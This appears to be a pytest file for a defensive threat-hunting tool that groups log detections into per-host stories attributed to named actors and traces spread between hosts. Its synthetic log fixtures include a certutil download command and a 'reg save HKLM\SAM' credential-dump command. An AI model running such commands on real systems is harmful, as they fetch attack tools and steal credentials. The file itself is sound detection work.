"""Stories: several distinct techniques with a telling sign make one, single signs never do."""

import json
from pathlib import Path
from typing import Any

from holdfast.app.hunt import HuntOptions, prepare
from holdfast.app.settings import Settings
from holdfast.hunt.spread import trace
from holdfast.hunt.story import Story
from hunting import event_of, pack_home, run, write_events

NORTHGATE = Path(__file__).resolve().parents[2] / "examples/northgate/logs"


def stories(events: list[dict[str, Any]], folder: Path) -> dict[str, Story]:
    file = write_events(folder / "events.ndjson", map(event_of, events))
    hunt = prepare([str(file)], Settings(pack_home()))
    list(hunt.sightings())
    return {story.host: story for story in hunt.teller.stories()}


def at(day: int, host: str, **event: Any) -> dict[str, Any]:
    return {**event, "Computer": host, "@timestamp": f"2026-{1 + day // 28:02d}-{1 + day % 28:02d}T10:00:00Z"}


SIDE_FILE = {"log": "sysmon/11", "Image": "x", "TargetFilename": "C:\\x\\hamcore.se2"}
CERTUTIL = {
    "log": "sysmon/1",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://192.0.2.1/a a",
}
SAM = {"log": "sysmon/1", "Image": "C:\\Windows\\System32\\reg.exe", "CommandLine": "reg save HKLM\\SAM a"}


def test_several_techniques_with_a_telling_sign_are_consistent(tmp_path: Path) -> None:
    """Three techniques on one host within the window, one sign telling: consistent with the actor, never more."""
    told = stories([at(1, "a", **SIDE_FILE), at(2, "a", **CERTUTIL), at(9, "a", **SAM)], tmp_path)
    assert told["a"].verdict == "consistent"
    assert told["a"].actor == "Flax Typhoon"
    assert "consistent with" in told["a"].says()


def test_without_a_telling_sign_nobody_is_named(tmp_path: Path) -> None:
    """Techniques that any intruder uses never name an actor."""
    told = stories([at(1, "a", **CERTUTIL), at(1, "a", **SAM)], tmp_path)
    assert (told["a"].verdict, told["a"].actor) == ("single", "")


def test_signs_on_different_hosts_are_not_added_up(tmp_path: Path) -> None:
    """The same signs spread over hosts are no story of one host."""
    told = stories([at(1, "a", **SIDE_FILE), at(1, "b", **CERTUTIL), at(1, "c", **SAM)], tmp_path)
    assert {story.verdict for story in told.values()} == {"single"}


def test_signs_far_apart_in_time_are_not_added_up(tmp_path: Path) -> None:
    """Signs months apart are not told together."""
    told = stories([at(1, "a", **SIDE_FILE), at(60, "a", **CERTUTIL), at(120, "a", **SAM)], tmp_path)
    assert told["a"].verdict == "single"


def test_the_same_sign_often_is_one_technique(tmp_path: Path) -> None:
    """A hundred repetitions do not make a story."""
    told = stories([at(1 + n % 20, "a", **SIDE_FILE) for n in range(100)], tmp_path)
    assert told["a"].verdict == "single"
    assert told["a"].signs[0].count == 100


def test_northgate() -> None:
    """The planted hosts are told, the near misses are not, the tools are inventory, the broken line is named."""
    hunt = prepare([str(NORTHGATE)], Settings(pack_home()))
    list(hunt.sightings())
    told = {story.host.partition(".")[0]: story.verdict for story in hunt.teller.stories()}
    assert told == {
        "NG-GIS01": "consistent", "NG-FILE01": "consistent", "NG-DC01": "single", "NG-BILL02": "single",
        "NG-WS203": "single", "ng-edge01": "consistent", "ng-edge02": "single", "NG-MAIL01": "single",
    }  # fmt: skip
    actors = {story.actor for story in hunt.teller.stories()}
    assert actors == {"Flax Typhoon", "Salt Typhoon", ""}
    tied = {(step.source[:9], step.host[:9]) for step in trace(hunt.teller.stories()) if step.source}
    assert tied == {("NG-GIS01.", "NG-FILE01"), ("NG-FILE01", "NG-DC01.n")}
    uses = {(use.tool, use.host.partition(".")[0]): use.new for use in hunt.inventory.uses()}
    assert uses["TeamViewer", "NG-WS114"] is False
    assert uses["AnyDesk", "NG-WS127"] is True
    broken = [problem for status in hunt.statuses() for problem in status.problems]
    assert [problem.origin.line for problem in broken] == [1100]


def test_listed_infrastructure_is_found_in_the_same_pass(tmp_path: Path) -> None:
    """A listed address in its time is high; outside its time it is low; a neighbour is nothing."""
    lines = [
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.247", "@timestamp": "2023-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.247", "@timestamp": "2026-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/3", "DestinationIp": "45.204.1.246", "@timestamp": "2023-08-01T00:00:00Z"}),
        event_of({"log": "sysmon/22", "QueryName": "vpn.w8510.com", "@timestamp": "2024-02-01T00:00:00Z"}),
        event_of({"log": "sysmon/22", "QueryName": "w8510.com.example.org"}),
    ]
    (tmp_path / "e.ndjson").write_text("\n".join(map(json.dumps, lines)))
    rows = [row for row in run([tmp_path / "e.ndjson"], pack_home()) if row["rule"].startswith("indicator-")]
    assert [(row["record"], row["level"]) for row in rows] == [(1, "high"), (2, "low"), (4, "high")]


def test_spellings_of_a_host_are_one_host(tmp_path: Path) -> None:
    """A short name, capitals and the full name tell one story; two domains with one short name do not."""
    told = stories(
        [at(1, "SRV7", **SIDE_FILE), at(2, "srv7.a.example", **CERTUTIL), at(3, "srv7", **SAM)], tmp_path
    )
    assert {host: story.verdict for host, story in told.items()} == {"srv7.a.example": "consistent"}
    told = stories(
        [at(1, "srv7.a.example", **SIDE_FILE), at(2, "srv7.b.example", **CERTUTIL), at(3, "srv7", **SAM)],
        tmp_path,
    )
    assert {story.verdict for story in told.values()} == {"single"}
    assert len(told) == 3


def test_files_without_a_host_are_not_one_machine(tmp_path: Path) -> None:
    """Events that name no host are told by file: three files of three machines make no story."""
    folder = tmp_path / "logs"
    folder.mkdir()
    for number, event in enumerate([SIDE_FILE, CERTUTIL, SAM]):
        write_events(folder / f"{number}.ndjson", [{**event_of(at(1, "x", **event)), "Computer": ""}])
    hunt = prepare([str(folder)], Settings(pack_home()))
    list(hunt.sightings())
    told = hunt.teller.stories()
    assert [story.verdict for story in told] == ["single"] * 3
    assert told[0].host.startswith("unknown host of ")


def test_an_old_and_a_new_number_are_one_technique(tmp_path: Path) -> None:
    """T1562.001 and T1685 are the same thing and count once."""
    rules = tmp_path / "rules.yml"
    tags = ["t1133", "t1562.001", "t1685"]
    rules.write_text(
        "---\n".join(
            f"title: r{n}\nid: r{n}\ntags: [attack.{tag}]\nlogsource: {{product: windows, service: security}}\n"
            f"detection: {{one: {{EventID: {n}}}, condition: one}}\nlevel: high\nholdfast: {{telling: true}}\n"
            for n, tag in enumerate(tags)
        )
    )
    file = write_events(tmp_path / "e.ndjson", [event_of(at(1, "a", log=f"security/{n}")) for n in range(3)])
    hunt = prepare([str(file)], Settings(pack_home()), HuntOptions(rules=(str(rules),)))
    list(hunt.sightings())
    (story,) = hunt.teller.stories()
    assert (story.verdict, story.techniques) == ("single", ("T1133", "T1685"))


def test_spread_follows_an_account(tmp_path: Path) -> None:
    """A host with a single sign is tied to a told host by an account of both, never by one that every host has."""
    user = {"User": "CORP\\haas"}
    told = stories(
        [
            *(at(1, "a", **event, **user) for event in (SIDE_FILE, CERTUTIL, SAM)),
            at(3, "b", **SAM, User="haas@corp.example"),
            at(4, "c", **SAM, User="NT AUTHORITY\\SYSTEM"),
        ],
        tmp_path,
    )
    steps = [(step.source, step.host) for step in trace(told.values())]
    assert steps == [("", "a"), ("a", "b")]


def _sessions(*sessions: tuple[int, str]) -> list[dict[str, Any]]:
    return [
        at(day, "a", log="security/4624", LogonType="10", IpAddress=address, TargetUserName="anna")
        for day, address in sessions
    ]


def test_sessions_from_new_places_are_told(tmp_path: Path) -> None:
    """A place first seen after a month of watching is new; outside one's own network it weighs more."""
    events = _sessions(
        (1, "10.1.1.1"), (20, "10.1.1.1"), (40, "10.1.1.1"), (41, "10.9.9.9"), (41, "203.0.113.7")
    )
    rows = run([write_events(tmp_path / "e.ndjson", map(event_of, events))], pack_home())
    new = [(row["level"], row["matched"]["address"]) for row in rows if row["rule"].startswith("new-place")]
    assert new == [("low", "10.9.9.9"), ("medium", "203.0.113.7")]


def test_where_little_was_watched_nothing_is_new(tmp_path: Path) -> None:
    """Logs of a week cannot say what is usual."""
    events = _sessions((1, "10.1.1.1"), (7, "10.9.9.9"))
    rows = run([write_events(tmp_path / "e.ndjson", map(event_of, events))], pack_home())
    assert rows == []


def test_remote_management_and_ssh_are_watched_too(tmp_path: Path) -> None:
    """Connections to the ports of Windows Remote Management and sign-ins by SSH have their places as well."""
    winrm = [
        at(day, "a", log="sysmon/3", Initiated="false", DestinationPort="5985", SourceIp=f"10.1.1.{day}")
        for day in (1, 40)
    ]
    file = write_events(tmp_path / "e.ndjson", map(event_of, winrm))
    text = tmp_path / "auth.log"
    text.write_text(
        "2026-01-01T00:00:00Z srv sshd[1]: Accepted publickey for op from 10.1.1.1 port 5 ssh2\n"
        "2026-02-20T00:00:00Z srv sshd[2]: Accepted password for op from 10.1.1.9 port 5 ssh2\n"
    )
    rows = run([file, text], pack_home())
    assert {(row["rule"], row["matched"]["address"]) for row in rows} == {
        ("new-place-t1021.006", "10.1.1.40"),
        ("new-place-t1021.004", "10.1.1.9"),
    }
